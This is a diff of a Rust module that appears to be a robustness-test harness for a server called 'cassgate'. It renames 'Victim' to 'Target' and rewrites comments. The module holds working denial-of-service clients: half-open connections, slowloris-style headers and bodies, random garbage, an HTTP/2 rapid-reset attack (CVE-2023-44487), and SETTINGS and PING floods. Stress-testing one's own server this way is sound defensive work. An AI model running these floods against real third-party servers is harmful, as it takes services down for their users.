@@ -1,4 +1,4 @@
-//! Clients that mean harm. None of them has a certificate or a token: anybody who reaches the port can be one.
+//! Hostile clients without certificate or token, as any peer that reaches the port can be.
 
 use std::{
     io, iter,
@@ -19,7 +19,7 @@ use tokio_util::task::AbortOnDropHandle;
 
 use super::api::tls;
 
-/// A thread of their own, so that the honest clients of this process do not wait behind thousands of them.
+/// A separate thread, so that the regular clients of this process do not wait behind thousands of attackers.
 fn runtime() -> &'static Runtime {
     static RUNTIME: OnceLock<Runtime> = OnceLock::new();
     RUNTIME.get_or_init(|| {
@@ -31,34 +31,34 @@ fn runtime() -> &'static Runtime {
     })
 }
 
-/// Clients that go on until this is dropped.
+/// Clients that repeat their attack until this is dropped.
 pub(crate) struct Attack(JoinSet<()>);
 
-/// Whom they attack.
+/// The target of the attack.
 #[derive(Clone)]
-pub(crate) struct Victim {
+pub(crate) struct Target {
     pub(crate) address: SocketAddr,
     pub(crate) certificate_authority: Arc<str>,
 }
 
-/// Between two attempts of one client: the machine is the honest ones' too.
+/// Pause between two attempts of one client, which leaves CPU time to the regular clients.
 const PAUSE: Duration = Duration::from_millis(100);
 
 impl Attack {
-    /// So many clients at once; each begins again when its turn has ended, in whatever way.
-    pub(crate) fn by<T, F>(clients: usize, victim: &Victim, turn: T) -> Self
+    /// Starts this many clients; each repeats its turn as soon as it ends, successfully or not.
+    pub(crate) fn by<T, F>(clients: usize, target: &Target, turn: T) -> Self
     where
-        T: Fn(Victim, usize) -> F + Clone + Send + Sync + 'static,
+        T: Fn(Target, usize) -> F + Clone + Send + Sync + 'static,
         F: Future<Output = io::Result<()>> + Send,
     {
         let _runtime = runtime().enter();
         let mut attack = JoinSet::new();
         for number in 0..clients {
-            let (turn, victim) = (turn.clone(), victim.clone());
+            let (turn, target) = (turn.clone(), target.clone());
             attack.spawn(async move {
                 loop {
-                    // How a turn ends is the server's choice.
-                    let _ = turn(victim.clone(), number).await;
+                    // The server decides how a turn ends.
+                    let _ = turn(target.clone(), number).await;
                     sleep(PAUSE).await;
                 }
             });
@@ -66,13 +66,13 @@ impl Attack {
         Self(attack)
     }
 
-    /// How many clients there are.
+    /// Returns the number of clients.
     pub(crate) fn clients(&self) -> usize {
         self.0.len()
     }
 }
 
-impl Victim {
+impl Target {
     async fn tls(&self, protocol: &str) -> io::Result<TlsStream<TcpStream>> {
         tls(self.address, &self.certificate_authority, &[protocol])
             .await
@@ -80,11 +80,11 @@ impl Victim {
     }
 }
 
-/// Connects and says nothing, or a part of a greeting.
-pub(crate) async fn half_open(victim: Victim, number: usize) -> io::Result<()> {
-    let mut stream = TcpStream::connect(victim.address).await?;
+/// Connects and sends nothing, or a part of a ClientHello.
+pub(crate) async fn half_open(target: Target, number: usize) -> io::Result<()> {
+    let mut stream = TcpStream::connect(target.address).await?;
     if number.is_multiple_of(2) {
-        // A record of 512 bytes of which five come.
+        // A record of 512 bytes, of which five are sent.
         stream
             .write_all(&[0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03])
             .await?;
@@ -92,9 +92,9 @@ pub(crate) async fn half_open(victim: Victim, number: usize) -> io::Result<()> {
     until_closed(stream).await
 }
 
-/// Greets as TLS 1.1 does, which has no other version to offer.
-pub(crate) async fn tls_1_1(victim: Victim, _: usize) -> io::Result<()> {
-    let mut stream = TcpStream::connect(victim.address).await?;
+/// Sends the ClientHello of a client that only supports TLS 1.1.
+pub(crate) async fn tls_1_1(target: Target, _: usize) -> io::Result<()> {
+    let mut stream = TcpStream::connect(target.address).await?;
     stream.write_all(&CLIENT_HELLO_OF_TLS_1_1).await?;
     until_closed(stream).await
 }
@@ -117,27 +117,27 @@ pub(crate) const CLIENT_HELLO_OF_TLS_1_1: [u8; 50] = {
     hello
 };
 
-/// Sends bytes that are nothing: to the port, or within TLS.
-pub(crate) async fn garbage(victim: Victim, number: usize) -> io::Result<()> {
+/// Sends random bytes, in plain text or within TLS.
+pub(crate) async fn garbage(target: Target, number: usize) -> io::Result<()> {
     let mut random = fastrand::Rng::with_seed(number as u64);
     let noise: Vec<u8> = iter::repeat_with(|| random.u8(..)).take(4096).collect();
     match number % 3 {
         0 => {
-            let mut stream = TcpStream::connect(victim.address).await?;
+            let mut stream = TcpStream::connect(target.address).await?;
             stream.write_all(&noise).await?;
             until_closed(stream).await
         }
         turn => {
-            let mut stream = victim.tls(if turn == 1 { "h2" } else { "http/1.1" }).await?;
+            let mut stream = target.tls(if turn == 1 { "h2" } else { "http/1.1" }).await?;
             stream.write_all(&noise).await?;
             until_closed(stream).await
         }
     }
 }
 
-/// A header that grows, slowly and without an end.
-pub(crate) async fn slow_headers(victim: Victim, _: usize) -> io::Result<()> {
-    let mut stream = victim.tls("http/1.1").await?;
+/// Sends a header that grows slowly and never ends.
+pub(crate) async fn slow_headers(target: Target, _: usize) -> io::Result<()> {
+    let mut stream = target.tls("http/1.1").await?;
     stream
         .write_all(b"POST /validate HTTP/1.1\r\nhost: cassgate\r\nx: ")
         .await?;
@@ -148,9 +148,9 @@ pub(crate) async fn slow_headers(victim: Victim, _: usize) -> io::Result<()> {
     }
 }
 
-/// A body that is announced and comes a byte at a time, after a first part of this length.
-pub(crate) async fn slow_body(victim: Victim, announced: usize, first: usize) -> io::Result<()> {
-    let mut stream = victim.tls("http/1.1").await?;
+/// Announces a body and sends it byte by byte, after a first part of this length.
+pub(crate) async fn slow_body(target: Target, announced: usize, first: usize) -> io::Result<()> {
+    let mut stream = target.tls("http/1.1").await?;
     let head = format!("POST /validate HTTP/1.1\r\nhost: cassgate\r\ncontent-length: {announced}\r\n\r\n");
     stream.write_all(head.as_bytes()).await?;
     let part = vec![b' '; 64 * 1024];
@@ -164,9 +164,9 @@ pub(crate) async fn slow_body(victim: Victim, announced: usize, first: usize) ->
     }
 }
 
-/// Bodies without an end on every stream of an HTTP/2 connection.
-pub(crate) async fn streams_of_bodies(victim: Victim, _: usize) -> io::Result<()> {
-    let (reading, mut stream) = greeted(&victim).await?;
+/// Sends endless bodies on every stream of an HTTP/2 connection.
+pub(crate) async fn streams_of_bodies(target: Target, _: usize) -> io::Result<()> {
+    let (reading, mut stream) = http2(&target).await?;
     for number in 0..100 {
         stream.write_all(&request(number)).await?;
     }
@@ -184,9 +184,9 @@ pub(crate) async fn streams_of_bodies(victim: Victim, _: usize) -> io::Result<()
     }
 }
 
-/// Streams that are opened and reset in one breath (CVE-2023-44487).
-pub(crate) async fn rapid_reset(victim: Victim, _: usize) -> io::Result<()> {
-    let (reading, mut stream) = greeted(&victim).await?;
+/// Opens streams and resets them at once (CVE-2023-44487).
+pub(crate) async fn rapid_reset(target: Target, _: usize) -> io::Result<()> {
+    let (reading, mut stream) = http2(&target).await?;
     for round in 0.. {
         let mut burst = Vec::new();
         for number in round * 100..(round + 1) * 100 {
@@ -204,18 +204,18 @@ pub(crate) async fn rapid_reset(victim: Victim, _: usize) -> io::Result<()> {
     Ok(())
 }
 
-/// SETTINGS without an end, each of which wants an answer.
-pub(crate) async fn settings_flood(victim: Victim, _: usize) -> io::Result<()> {
-    flood(&victim, &frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])).await
+/// Sends endless SETTINGS frames, each of which requires an acknowledgement.
+pub(crate) async fn settings_flood(target: Target, _: usize) -> io::Result<()> {
+    flood(&target, &frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])).await
 }
 
-/// PING without an end, each of which wants an answer.
-pub(crate) async fn ping_flood(victim: Victim, _: usize) -> io::Result<()> {
-    flood(&victim, &frame(PING, 0, 0, &[0; 8])).await
+/// Sends endless PING frames, each of which requires an answer.
+pub(crate) async fn ping_flood(target: Target, _: usize) -> io::Result<()> {
+    flood(&target, &frame(PING, 0, 0, &[0; 8])).await
 }
 
-async fn flood(victim: &Victim, frame: &[u8]) -> io::Result<()> {
-    let (reading, mut stream) = greeted(victim).await?;
+async fn flood(target: &Target, frame: &[u8]) -> io::Result<()> {
+    let (reading, mut stream) = http2(target).await?;
     let burst = frame.repeat(500);
     loop {
         stream.write_all(&burst).await?;
@@ -226,9 +226,9 @@ async fn flood(victim: &Victim, frame: &[u8]) -> io::Result<()> {
     }
 }
 
-/// A connection that has said the preface, and a task that reads whatever comes.
-async fn greeted(victim: &Victim) -> io::Result<(AbortOnDropHandle<()>, WriteHalf<TlsStream<TcpStream>>)> {
-    let (mut reading, mut writing) = split(victim.tls("h2").await?);
+/// Opens a connection, sends the preface, and starts a task that reads all answers.
+async fn http2(target: &Target) -> io::Result<(AbortOnDropHandle<()>, WriteHalf<TlsStream<TcpStream>>)> {
+    let (mut reading, mut writing) = split(target.tls("h2").await?);
     writing.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
     writing.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
     let read = tokio::spawn(async move { drop(copy(&mut reading, &mut sink()).await) });
@@ -250,14 +250,14 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     frame
 }
 
-/// A client's streams have odd numbers.
+/// Client streams have odd numbers.
 fn stream_id(number: u32) -> [u8; 4] {
     (2 * number + 1).to_be_bytes()
 }
 
-/// The head of `POST /validate`, whose body is still to come.
+/// Returns the head of `POST /validate`; the body follows.
 fn request(number: u32) -> Vec<u8> {
-    // RFC 7541: `:method POST` and `:scheme https` of the static table, then two names of it with texts.
+    // RFC 7541: `:method POST` and `:scheme https` from the static table, then two names from it with literal values.
     let mut block = vec![0x83, 0x87];
     for (name, value) in [(4, "/validate"), (1, "cassgate")] {
         block.extend([name, u8::try_from(value.len()).unwrap()]);
